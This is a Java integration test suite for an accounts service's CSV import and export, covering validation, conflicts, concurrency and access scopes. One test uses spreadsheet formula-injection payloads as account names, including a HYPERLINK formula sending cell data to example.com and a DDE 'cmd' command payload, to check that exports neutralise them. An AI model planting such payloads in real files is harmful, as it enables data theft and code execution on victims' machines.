package dev.kontor.accounts;

import static io.restassured.RestAssured.given;
import static java.util.stream.Collectors.joining;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.groups.Tuple.tuple;

import dev.kontor.accounts.testing.AccountsServiceTest;
import dev.kontor.accounts.testing.Colleague;
import dev.kontor.accounts.testing.GraphQL;
import dev.kontor.accounts.testing.Rush;
import dev.kontor.accounts.testing.Tables;
import dev.kontor.kit.testing.TestTokens;
import io.restassured.path.json.JsonPath;
import jakarta.inject.Inject;
import java.io.IOException;
import java.io.StringReader;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.stream.IntStream;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVPrinter;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.RepeatedTest;
import org.junit.jupiter.api.Test;

/** Accounts from files and to files. */
@AccountsServiceTest
class CsvTest {

    private static final String TOKEN = TestTokens.issue("importer", "accounts:read", "accounts:write");

    @Inject
    Tables tables;

    private final GraphQL graph = GraphQL.as("importer");
    private final Colleague colleague = new Colleague(graph);
    private final String industry = "csv " + UUID.randomUUID();

    @Test
    void goodRowsAreKeptAndBadOnesToldByLine() {
        colleague.manager("importer");

        JsonPath report = post(200, """
                name,tier,industry,country,customerSince,manager
                "Bank, the ""first""\",KEY,%1$s,DE,2020-05-01,importer
                No manager,KEY,%1$s,,,
                Not a tier,GOLD,%1$s,,,
                "Of two
                lines",GROWTH,%1$s,,,
                Café,GROWTH,%1$s,XX,2020-13-01,
                Too,few
                Fine,STANDARD,%1$s,,,
                """.formatted(industry));

        assertThat(report.getInt("created")).isEqualTo(2);
        assertThat(report.getInt("failed")).isEqualTo(5);
        assertThat(report.getList("errors", Map.class))
                .extracting("line", "column", "rule")
                .containsExactly(
                        tuple(3, "manager", "MANAGER_REQUIRED"),
                        tuple(4, "tier", "VALUE_MALFORMED"),
                        tuple(6, "name", "NAME_CONTROL_CHARACTER"),
                        tuple(7, "customerSince", "VALUE_MALFORMED"),
                        tuple(8, "", "ROW_MALFORMED"));
        assertThat(names()).containsExactly("Bank, the \"first\"", "Fine");
    }

    @Test
    void aFileCanBeImportedAgain() {
        String file = "name,tier,industry\nOnce,GROWTH,%s\nOther,GROWTH,%1$s\n".formatted(industry);

        assertThat(post(200, file).getInt("created")).isEqualTo(2);
        JsonPath again = post(200, file);

        assertThat(again.getInt("created")).isZero();
        assertThat(again.getInt("unchanged")).isEqualTo(2);
        assertThat(names()).containsExactly("Once", "Other");
    }

    @Test
    void whatWasExportedCanBeChangedAndImported() {
        String account = colleague.account("Exported", industry);
        colleague.create(Map.of("name", "Below", "tier", "GROWTH", "industry", industry, "parentId", account));
        List<String> lines = exported().lines().toList();
        String header = lines.getFirst();
        List<String> rows =
                lines.stream().filter(line -> line.contains(industry)).toList();
        assertThat(rows).hasSize(2);
        String parent = rows.getFirst().split(",", -1)[0];
        assertThat(rows.getLast().split(",", -1)[9]).isEqualTo(parent);

        String changed = header + "\n" + rows.getFirst().replace("Exported", "Imported") + "\n" + rows.getLast() + "\n";
        JsonPath report = post(200, changed);
        JsonPath stale = post(200, changed.replace("Imported", "Overwritten"));

        assertThat(report.getInt("updated")).isEqualTo(1);
        assertThat(report.getInt("unchanged")).isEqualTo(1);
        assertThat(stale.getString("errors[0].rule")).isEqualTo("CONFLICT");
        assertThat(names()).containsExactly("Below", "Imported");
    }

    @Test
    void whatIsNoSuchFileIsRefusedButWhatCameBeforeIsKept() {
        assertThat(post(422, "title,tier\nx,GROWTH\n").getString("stopped")).contains("title");
        assertThat(post(422, "name\nx\n").getString("stopped")).contains("tier");
        JsonPath broken = post(422, "name,tier,industry\nKept,GROWTH,%s\n\"open,GROWTH,x\n".formatted(industry));

        assertThat(broken.getInt("created")).isEqualTo(1);
        assertThat(names()).containsExactly("Kept");
        byte[] latin = "name,tier\nM\u00fcller,GROWTH\n".getBytes(StandardCharsets.ISO_8859_1);
        assertThat(given().header("Authorization", "Bearer " + TOKEN)
                        .contentType("text/csv")
                        .body(latin)
                        .post("/csv/accounts")
                        .then()
                        .statusCode(422)
                        .extract()
                        .jsonPath()
                        .getString("stopped"))
                .contains("UTF-8");
    }

    @Test
    void noCellIsAFormulaAndWhatWasExportedIsImportedUnchanged() throws Exception {
        String manager = colleague.manager("=subject-" + UUID.randomUUID());
        List<String> names = List.of(
                "=HYPERLINK(\"http://example.com/?\"&A1;\"Click\")",
                "=cmd|'/c calc'!A1",
                "+1",
                "-1+1",
                "@SUM(A1:A9)",
                "＝1",
                "'=kept",
                "''-kept",
                "'t Hooft, Ltd.",
                "'",
                "plain = text");
        for (String name : names) {
            colleague.create(Map.of("name", name, "tier", "KEY", "industry", "=" + industry, "managerId", manager));
        }
        // No request can have them at the beginning, but what can be in the table is written, too.
        for (String hidden : List.of("\t", "\r")) {
            String other = colleague.manager("hidden-" + UUID.randomUUID());
            tables.execute("update account_manager set subject = '%s=' || subject where id = '%s'"
                    .formatted(hidden, Tables.key(other)));
            colleague.create(Map.of("name", "Managed", "tier", "KEY", "industry", "=" + industry, "managerId", other));
        }

        List<CSVRecord> rows = CSVFormat.RFC4180.parse(new StringReader(exported())).stream()
                .filter(row -> row.get(0).equals("number") || row.get(4).equals("'=" + industry))
                .toList();

        assertThat(rows).hasSize(1 + names.size() + 2);
        assertThat(rows).allSatisfy(row -> assertThat(row).noneMatch(cell -> cell.matches("(?s)[=+\\-@\t\r\n＝].*")));
        assertThat(rows).extracting(row -> row.get(1)).contains("'t Hooft, Ltd.", "''=kept", "'+1");
        JsonPath report = post(200, written(rows));
        assertThat(report.getList("errors")).isEmpty();
        assertThat(report.getInt("unchanged")).isEqualTo(names.size() + 2);
        assertThat(report.getInt("updated")).isZero();
    }

    /** Rows as the file has them. */
    private static String written(List<CSVRecord> rows) throws IOException {
        StringWriter file = new StringWriter();
        try (CSVPrinter printer = new CSVPrinter(file, CSVFormat.RFC4180)) {
            printer.printRecords(rows);
        }
        return file.toString();
    }

    @RepeatedTest(4)
    void ofFilesThatChangeTheSameAccountAtOnceOneDoes() throws Exception {
        colleague.account("Rushed", industry);
        List<String> lines = exported().lines().toList();
        String row = lines.stream()
                .filter(line -> line.contains(industry))
                .findFirst()
                .orElseThrow();

        List<JsonPath> reports =
                Rush.of(6, i -> post(200, lines.getFirst() + "\n" + row.replace("Rushed", "Rival " + i) + "\n"));

        assertThat(reports.stream().filter(report -> report.getInt("updated") == 1))
                .hasSize(1);
        assertThat(reports.stream().filter(report -> report.getInt("failed") == 1))
                .hasSize(5)
                .allSatisfy(lost -> assertThat(lost.getString("errors[0].rule")).isEqualTo("CONFLICT"));
    }

    @Test
    void aFileThatIsSentTwiceAtOnceIsImportedOnce() throws Exception {
        String file = "name,tier,industry\n"
                + IntStream.range(0, 20)
                        .mapToObj(i -> "Row %d,GROWTH,%s\n".formatted(i, industry))
                        .collect(joining());

        List<JsonPath> reports = Rush.of(4, i -> post(200, file));

        assertThat(reports)
                .allSatisfy(report -> assertThat(report.getInt("failed")).isZero());
        assertThat(names()).hasSize(20);
    }

    @Test
    void filesNeedTheScopesOfWhatTheyDo() {
        given().get("/csv/accounts").then().statusCode(401);
        String reader = TestTokens.issue("reader", "accounts:read");
        given().header("Authorization", "Bearer " + reader)
                .contentType("text/csv")
                .body("name,tier\n")
                .post("/csv/accounts")
                .then()
                .statusCode(403);
    }

    private List<String> names() {
        return graph.execute(
                        "query ($i: String!) { keyAccounts(filter: { industries: [$i] }) { edges { node { name } } } }",
                        Map.of("i", industry))
                .getList("data.keyAccounts.edges.node.name");
    }

    private static String exported() {
        return given().header("Authorization", "Bearer " + TOKEN)
                .get("/csv/accounts")
                .then()
                .statusCode(200)
                .extract()
                .asString();
    }

    private static JsonPath post(int status, String file) {
        return given().header("Authorization", "Bearer " + TOKEN)
                .contentType("text/csv; charset=utf-8")
                .body(file)
                .post("/csv/accounts")
                .then()
                .statusCode(status)
                .extract()
                .jsonPath();
    }
}
